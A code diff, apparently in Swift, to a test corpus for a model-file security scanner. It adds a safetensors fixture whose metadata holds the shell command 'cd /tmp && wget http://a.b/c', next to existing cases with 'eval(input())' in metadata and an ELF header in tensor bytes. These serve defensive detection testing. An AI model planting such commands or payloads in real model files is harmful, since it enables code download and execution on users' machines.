@@ -73,9 +73,19 @@ extension Corpus {
         bytes: { SafetensorsBuilder.one.bytes + [1, 2, 3] }, clean: oneTensor),
       HostileFile(
         "safetensors: code in the metadata", .modelText, .high, in: "model.safetensors",
-        isHygiene: true,
         bytes: { tensors("{\"__metadata__\":{\"a\":\"eval(input())\"},\(tensor("a", 0, 8))}") },
         clean: { tensors("{\"__metadata__\":{\"format\":\"pt\"},\(tensor("a", 0, 8))}") }),
+      HostileFile(
+        "safetensors: commands in the metadata", .modelText, .high, in: "model.safetensors",
+        source: "modelaudit",
+        bytes: {
+          tensors(
+            "{\"__metadata__\":{\"setup\":\"cd /tmp && wget http://a.b/c\"},\(tensor("a", 0, 8))}")
+        },
+        clean: {
+          tensors(
+            "{\"__metadata__\":{\"source\":\"wget's mirror\"},\(tensor("a", 0, 8))}")
+        }),
       HostileFile(
         "safetensors: a tensor that is a program", .tensorIsFile, .high, in: "model.safetensors",
         bytes: { tensors("{\(tensor("a", 0, 8))}", [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]) }),
